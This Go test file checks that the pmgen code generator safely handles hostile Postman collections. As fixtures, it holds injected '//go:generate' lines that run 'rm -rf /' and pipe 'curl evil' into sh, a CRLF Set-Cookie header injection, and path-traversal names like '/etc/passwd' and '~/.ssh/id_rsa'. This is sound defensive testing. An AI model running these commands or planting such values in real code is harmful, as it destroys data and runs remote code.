package generator

import (
	"encoding/json"
	"errors"
	"fmt"
	"go/importer"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"

	"github.com/pmgen/pmgen/generator/internal/output"
)

// Hostile collections: what people edit by hand, export from tools and
// pull from APIs, at its worst. Each case is built here rather than
// committed, so that the big ones (10,000 requests, a 5 MB body) cost no
// repository space. For every case pmgen either generates a package that
// parses, type-checks, vets and builds, or fails with diagnostics; it never
// panics, never writes outside -out, and allocates within a bound set by
// the input's size.

// outcome is what a hostile case must give.
type outcome int

const (
	compiles   outcome = iota // a package that builds and vets
	diagnostic                // an *InputError whose text contains want
)

type hostileCase struct {
	name string
	// collection returns the collection's bytes.
	collection func() []byte
	pkg        string // -package; empty derives it
	outcome    outcome
	want       string // in the diagnostics (diagnostic), or in some warning (compiles)
	// check looks further at the files of a case that compiles.
	check func(t *testing.T, files []output.File)
	// maxAllocMB overrides the allocation bound; goTypesOnly leaves the
	// case out of the go vet and go build run, type-checking it in
	// process only (10,000 methods cost minutes of CPU to vet).
	maxAllocMB  int
	goTypesOnly bool
	// synthetic marks a case of thousands of requests, which takes tens
	// of seconds and runs only with $PMGEN_SYNTHETIC set.
	synthetic bool
}

// col is a v2.1 collection around items, with extra top-level fields.
func col(name string, items []any, extra ...any) map[string]any {
	c := map[string]any{
		"info": map[string]any{"name": name, "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
		"item": items,
	}
	for i := 0; i+1 < len(extra); i += 2 {
		c[extra[i].(string)] = extra[i+1]
	}
	return c
}

// req is a request item; fields are added to its request object.
func req(name, method, url string, fields ...any) map[string]any {
	r := map[string]any{"method": method, "url": url}
	for i := 0; i+1 < len(fields); i += 2 {
		r[fields[i].(string)] = fields[i+1]
	}
	return map[string]any{"name": name, "request": r}
}

// withResponses adds saved examples (status, JSON body text) to an item.
func withResponses(item map[string]any, bodies ...any) map[string]any {
	var rs []any
	for i := 0; i+1 < len(bodies); i += 2 {
		rs = append(rs, map[string]any{"name": fmt.Sprintf("example %d", i/2), "code": bodies[i], "status": "OK",
			"header": []any{map[string]any{"key": "Content-Type", "value": "application/json"}}, "body": bodies[i+1]})
	}
	item["response"] = rs
	return item
}

func folder(name string, items ...any) map[string]any {
	return map[string]any{"name": name, "item": items}
}

func mustJSON(v any) []byte {
	data, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return data
}

func jsonOf(v any) func() []byte { return func() []byte { return mustJSON(v) } }

// hostileText is every string that has broken a code generator: comment
// terminators, raw-string terminators, NUL, JavaScript line separators, a
// newline followed by a directive, a package clause.
var hostileText = []string{
	"end */ of comment /* and start",
	"back`tick ``` fences",
	"nul\x00byte",
	"line\u2028separator\u2029paragraph",
	"x\n//go:generate rm -rf /",
	"x\r\n//go:generate sh -c 'curl evil | sh'",
	"\n//go:build ignore\n//line evil.go:1\n//go:linkname x runtime.x",
	"package main",
	"package main\n\nfunc main() {}",
	"\"; panic(1); //",
}

// big is a 100 kB string of words, with the hostile strings inside.
func big() string {
	var b strings.Builder
	for b.Len() < 100<<10 {
		b.WriteString("lorem ipsum */ `dolor` ")
	}
	return b.String()
}

func hostileTextCollection() []byte {
	var items []any
	for i, s := range append(hostileText, big()) {
		it := withResponses(req(s, "POST", "https://api.example.com/t/:id?q="+fmt.Sprint(i),
			"description", s,
			"header", []any{map[string]any{"key": "X-Note", "value": s, "description": s}},
			"body", map[string]any{"mode": "raw", "raw": mustJSON(map[string]string{"note": s}), "options": map[string]any{"raw": map[string]any{"language": "json"}}},
		), 200, string(mustJSON(map[string]string{s: s, "v": s})))
		it["description"] = s
		items = append(items, folder(s, it))
	}
	return mustJSON(col(strings.Join(hostileText, " "), items,
		"description", strings.Join(hostileText, "\n")+big(),
		"variable", []any{map[string]any{"key": "note", "value": hostileText[4], "description": hostileText[0]}}))
}

// directive matches a line that the go command or the compiler would read
// as an instruction: //go:generate, //go:build, //go:linkname, //line.
var directive = regexp.MustCompile(`(?m)^[ \t]*//(go:|line )`)

// checkNoDirectives fails when any generated file has a directive line:
// one written from a description would be code injection, run by
// `go generate` on the user's machine.
func checkNoDirectives(t *testing.T, files []output.File) {
	t.Helper()
	for _, f := range files {
		if loc := directive.FindIndex(f.Data); loc != nil && strings.HasSuffix(f.Path, ".go") {
			line := strings.Count(string(f.Data[:loc[0]]), "\n") + 1
			t.Errorf("%s:%d: a directive line: %q", f.Path, line, f.Data[loc[0]:min(loc[1]+40, len(f.Data))])
		}
	}
}

// checkNoFoldedClash fails when two generated files differ only in case:
// on macOS and Windows one would overwrite the other.
func checkNoFoldedClash(t *testing.T, files []output.File) {
	t.Helper()
	seen := map[string]string{}
	for _, f := range files {
		k := strings.ToLower(f.Path)
		if other, ok := seen[k]; ok {
			t.Errorf("%s and %s differ only in case", other, f.Path)
		}
		seen[k] = f.Path
	}
}

func collidingCollection() []byte {
	generated := []string{"Client", "New", "APIError", "Option", "Response", "ctx", "err", "params", "resp", "body", "opts", "c", "s", "http", "context", "json", "url"}
	var items []any
	var vars []any
	var query []string
	var headers []any
	for _, n := range generated {
		path := "https://api.example.com/{{" + n + "}}/:" + n
		items = append(items, withResponses(req(n, "POST", path, "body", map[string]any{"mode": "raw", "raw": `{"` + n + `": 1, "` + strings.ToUpper(n) + `": "x"}`}),
			200, `{"`+n+`": {"`+n+`": 1}, "`+strings.ToLower(n)+`x": [1]}`))
		vars = append(vars, map[string]any{"key": n, "value": "v"})
		query = append(query, n+"=1")
		headers = append(headers, map[string]any{"key": n, "value": "1"})
	}
	items = append(items, req("query", "GET", "https://api.example.com/q?"+strings.Join(query, "&"), "header", headers))
	// Names equal after case folding, as folders, requests and fields.
	for _, n := range []string{"Users", "users", "USERS", "uSeRs"} {
		items = append(items, folder(n, req("get user", "GET", "https://api.example.com/u"), req("Get User", "GET", "https://api.example.com/u"),
			req("GET USER", "GET", "https://api.example.com/u?id=1&ID=2&Id=3")))
	}
	// Names the package itself declares for the generated runtime.
	for _, n := range []string{"transport", "encoding", "client", "doc", "helpers", "Client Service", "Option", "config"} {
		items = append(items, folder(n, req(n, "GET", "https://api.example.com/r")))
	}
	return mustJSON(col("Client", items, "variable", vars))
}

func pathCollection() []byte {
	var items []any
	for _, n := range []string{"../../x", "..", ".", "/etc/passwd", `C:\Windows\x`, "x/../../../y", "-package ../../x", "testdata/pmgen/../../z", "~/.ssh/id_rsa", "con", "aux.go", "x_test", "y_windows"} {
		items = append(items, folder(n, withResponses(req(n, "GET", "https://api.example.com/"+n), 200, `{"a":1}`)))
	}
	return mustJSON(col("../../evil", items))
}

func manyRequests(n int) []byte {
	items := make([]any, n)
	for i := range items {
		items[i] = withResponses(req(fmt.Sprintf("request %d", i%100), "GET", fmt.Sprintf("https://api.example.com/r/%d", i)), 200, `{"id":1}`)
	}
	return mustJSON(col("many", items))
}

func deepFolders(depth int) []byte {
	var it any = withResponses(req("leaf", "GET", "https://api.example.com/leaf"), 200, `{"ok":true}`)
	for i := depth; i > 0; i-- {
		it = folder(fmt.Sprintf("level %d", i), it)
	}
	return mustJSON(col("deep", []any{it}))
}

// bigBody is an example body of about size bytes: many objects in an array.
func bigBody(size int) string {
	var b strings.Builder
	b.WriteString("[")
	for i := 0; b.Len() < size; i++ {
		if i > 0 {
			b.WriteString(",")
		}
		fmt.Fprintf(&b, `{"id":%d,"name":"item %d","tags":["a","b"],"price":%d.5}`, i, i, i)
	}
	b.WriteString("]")
	return b.String()
}

func nested(depth int) string {
	return strings.Repeat(`{"a":[`, depth) + "1" + strings.Repeat("]}", depth)
}

func numbersCollection() []byte {
	body := `{"huge":1e400,"big":9223372036854775808,"min":-9223372036854775809,"tiny":1e-400,"dup":1,"dup":"two","dup":{"x":1},"obj":{"k":1,"k":2}}`
	return mustJSON(col("numbers", []any{
		withResponses(req("numbers", "POST", "https://api.example.com/n", "body", map[string]any{"mode": "raw", "raw": body, "options": map[string]any{"raw": map[string]any{"language": "json"}}}),
			200, body, 201, `[1e400, 9223372036854775808, 1]`),
	}))
}

func variablesCollection() []byte {
	return mustJSON(col("vars", []any{
		req("unclosed", "GET", "{{base}}/a/{{id/b?x={{y&z=}}",
			"header", []any{map[string]any{"key": "X-{{", "value": "{{open"}, map[string]any{"key": "A", "value": "}}{{"}},
			"body", map[string]any{"mode": "raw", "raw": `{"a": "{{unclosed", "b": {{num}}, "c": "}}"}`}),
		req("crlf", "GET", "{{base}}/c",
			"header", []any{
				map[string]any{"key": "X-Inject\r\nEvil", "value": "v"},
				map[string]any{"key": "X-Value", "value": "a\r\nSet-Cookie: evil=1"},
				map[string]any{"key": "X-Lf", "value": "line1\nline2"},
				map[string]any{"key": "", "value": "nameless"},
			}),
	}, "variable", []any{map[string]any{"key": "base", "value": "https://api.example.com"}, map[string]any{"key": "y", "value": "{{"}}))
}

func cycleCollection() []byte {
	return mustJSON(col("cycle", []any{req("get", "GET", "{{a}}/x")}, "variable", []any{
		map[string]any{"key": "a", "value": "{{b}}/a"}, map[string]any{"key": "b", "value": "{{c}}"}, map[string]any{"key": "c", "value": "https://{{a}}"},
		map[string]any{"key": "self", "value": "{{self}}"},
	}))
}

// raw is a collection written as text, for shapes a Go value cannot give.
func raw(items string) func() []byte {
	return func() []byte {
		return []byte(`{"info": {"name": "raw", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"}, "item": [` + items + `]}`)
	}
}

func hostileCases() []hostileCase {
	return []hostileCase{
		{name: "text", collection: hostileTextCollection, outcome: compiles, check: checkNoDirectives},
		{name: "collisions", collection: collidingCollection, outcome: compiles, check: checkNoFoldedClash},
		{name: "paths", collection: pathCollection, outcome: compiles, check: checkNoFoldedClash},
		{name: "package-path", collection: jsonOf(col("p", []any{req("a", "GET", "https://x.example.com")})), pkg: "../../x", outcome: diagnostic, want: `-package "../../x" is not a name`},
		{name: "package-flag", collection: jsonOf(col("p", []any{req("a", "GET", "https://x.example.com")})), pkg: "-package", outcome: diagnostic, want: "is not a name"},
		{name: "package-main", collection: jsonOf(col("p", []any{req("a", "GET", "https://x.example.com")})), pkg: "main", outcome: diagnostic, want: "not main"},
		{name: "10000-requests", collection: func() []byte { return manyRequests(10000) }, outcome: compiles, maxAllocMB: 2500, goTypesOnly: true, synthetic: true},
		{name: "folders-60-deep", collection: func() []byte { return deepFolders(60) }, outcome: compiles},
		{name: "5MB-example", collection: func() []byte {
			return mustJSON(col("big", []any{withResponses(req("list", "GET", "https://api.example.com/l"), 200, bigBody(5<<20))}))
		}, outcome: compiles},
		{name: "json-3000-deep", collection: func() []byte {
			return mustJSON(col("deep", []any{withResponses(req("deep", "POST", "https://api.example.com/d",
				"body", map[string]any{"mode": "raw", "raw": nested(3000)}), 200, nested(3000))}))
		}, outcome: compiles},
		{name: "collection-3000-deep", collection: func() []byte { return []byte(strings.Repeat("[", 3000) + strings.Repeat("]", 3000)) }, outcome: diagnostic, want: "[not-a-collection]"},
		{name: "collection-value-3000-deep", collection: raw(`{"name": "n", "request": {"method": "GET", "url": "https://x.example.com", "description": ` + nested(3000) + `}}`), outcome: compiles},
		{name: "numbers-and-duplicate-keys", collection: numbersCollection, outcome: compiles},
		{name: "unclosed-braces-and-crlf-headers", collection: variablesCollection, outcome: compiles},
		{name: "variable-cycle", collection: cycleCollection, outcome: compiles, want: "[variable-cycle]"},
		{name: "request-null", collection: raw(`{"name": "n", "request": null}`), outcome: compiles, want: "request"},
		{name: "url-42", collection: raw(`{"name": "n", "request": {"method": "GET", "url": 42}}`), outcome: diagnostic, want: "url"},
		{name: "method-array", collection: raw(`{"name": "n", "request": {"method": ["GET"], "url": "https://x.example.com"}}`), outcome: diagnostic, want: "method"},
		{name: "response-object", collection: raw(`{"name": "n", "request": {"method": "GET", "url": "https://x.example.com"}, "response": {}}`), outcome: compiles},
		{name: "code-string", collection: raw(`{"name": "n", "request": {"method": "GET", "url": "https://x.example.com"}, "response": [{"name": "ok", "code": "200", "body": "{\"a\":1}"}]}`), outcome: compiles},
	}
}

// TestHostileCollections runs every hostile case through Generate, into
// one temporary module, then vets and builds all the packages that came
// out with one go command each, and runs `go generate -n`, which must have
// nothing to do.
func TestHostileCollections(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the go command; skipped with -short")
	}
	root := t.TempDir()
	inputs := filepath.Join(root, "in")
	mod := filepath.Join(root, "a", "b", "mod")
	for _, d := range []string{inputs, mod} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(mod, "go.mod"), []byte("module example.com/hostile\n\ngo 1.26\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	imp := importer.Default()
	allowed := map[string]bool{filepath.Join(mod, "go.mod"): true}
	var outs []string
	for _, c := range hostileCases() {
		t.Run(c.name, func(t *testing.T) {
			if c.synthetic {
				requireSynthetic(t)
			}
			data := c.collection()
			in := filepath.Join(inputs, c.name+".postman_collection.json")
			if err := os.WriteFile(in, data, 0o644); err != nil {
				t.Fatal(err)
			}
			allowed[in] = true
			out := filepath.Join(mod, strings.ReplaceAll(c.name, "-", "_"))
			outs = append(outs, out)
			res, err, alloc := measuredGenerate(Config{In: in, Out: out, Package: c.pkg})
			// Allocation is bounded by the input: pmgen reads, infers and
			// formats a few copies of it, never more than 64 per byte.
			bound := uint64(64*len(data) + 256<<20)
			if c.maxAllocMB > 0 {
				// Per request, emitting and formatting a method and its
				// test allocates about 175 kB; the bound allows 250 kB.
				bound = uint64(c.maxAllocMB) << 20
			}
			if alloc > bound {
				t.Errorf("allocated %d MB for %d kB of input; bound %d MB", alloc>>20, len(data)>>10, bound>>20)
			}
			t.Logf("input %d kB, allocated %d MB", len(data)>>10, alloc>>20)
			switch c.outcome {
			case diagnostic:
				var ie *InputError
				if !errors.As(err, &ie) {
					t.Fatalf("err = %v (%T), want diagnostics", err, err)
				}
				if !strings.Contains(ie.Error(), c.want) {
					t.Errorf("diagnostics do not say %q:\n%s", c.want, ie)
				}
				if _, err := os.Stat(out); !errors.Is(err, fs.ErrNotExist) {
					t.Errorf("a failed run created %s", out)
				}
				t.Logf("diagnostic: %s", firstLine(ie.Error()))
			case compiles:
				if err != nil {
					t.Fatalf("Generate: %v", err)
				}
				if c.want != "" && !strings.Contains(strings.Join(res.Warnings, "\n"), c.want) {
					t.Errorf("no warning says %q:\n%s", c.want, strings.Join(res.Warnings, "\n"))
				}
				files := readOutput(t, out, res)
				if c.goTypesOnly {
					defer os.RemoveAll(out)
				}
				var size int
				for _, f := range files {
					size += len(f.Data)
					allowed[filepath.Join(out, filepath.FromSlash(f.Path))] = true
				}
				if bound := 16*len(data) + 4<<20; size > bound {
					t.Errorf("wrote %d kB for %d kB of input; bound %d kB", size>>10, len(data)>>10, bound>>10)
				}
				if err := typeCheck(files, imp); err != nil {
					t.Fatalf("generated code does not type-check: %v", err)
				}
				checkStdlibOnly(t, files, "example.com/hostile/"+filepath.Base(out))
				if c.check != nil {
					c.check(t, files)
				}
				t.Logf("compiles: %s", res.Summary())
			}
		})
	}
	// Nothing was written anywhere but the output directories.
	_ = filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		if !allowed[p] {
			t.Errorf("%s was written, outside every -out", p)
		}
		return nil
	})
	for _, step := range [][]string{{"vet", "./..."}, {"build", "./..."}, {"generate", "-n", "./..."}} {
		out, err := goCommand(mod, step...)
		if err != nil {
			t.Errorf("go %s: %v\n%s", strings.Join(step, " "), err, out)
		}
		if step[0] == "generate" && strings.TrimSpace(out) != "" {
			t.Errorf("go generate would run commands from generated code:\n%s", out)
		}
	}
}

// measuredGenerate runs Generate, turning a panic into a test failure's
// error, and returns the bytes it allocated.
func measuredGenerate(cfg Config) (res *Result, err error, alloc uint64) {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	defer func() {
		runtime.ReadMemStats(&after)
		alloc = after.TotalAlloc - before.TotalAlloc
		if p := recover(); p != nil {
			err = fmt.Errorf("panic: %v", p)
		}
	}()
	res, err = Generate(cfg)
	return res, err, 0
}

// readOutput reads back the files a run wrote or left unchanged, checking
// that each path stays inside out.
func readOutput(t *testing.T, out string, res *Result) []output.File {
	t.Helper()
	var files []output.File
	for _, p := range append(append([]string(nil), res.Written...), res.Unchanged...) {
		if !filepath.IsLocal(filepath.FromSlash(p)) {
			t.Fatalf("generated path %q is not inside -out", p)
		}
		data, err := os.ReadFile(filepath.Join(out, filepath.FromSlash(p)))
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, output.File{Path: p, Data: data})
	}
	return files
}

// BenchmarkHostile measures the big hostile cases from bytes to files;
// the 10,000-request one runs with $PMGEN_SYNTHETIC set.
func BenchmarkHostile(b *testing.B) {
	for _, c := range hostileCases() {
		switch c.name {
		case "10000-requests", "folders-60-deep", "5MB-example", "json-3000-deep":
		default:
			continue
		}
		b.Run(c.name, func(b *testing.B) {
			if c.synthetic {
				requireSynthetic(b)
			}
			data := c.collection()
			b.ReportAllocs()
			b.SetBytes(int64(len(data)))
			for b.Loop() {
				if _, _, _, err := render(source{c.name + ".json", data}, source{}, ""); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
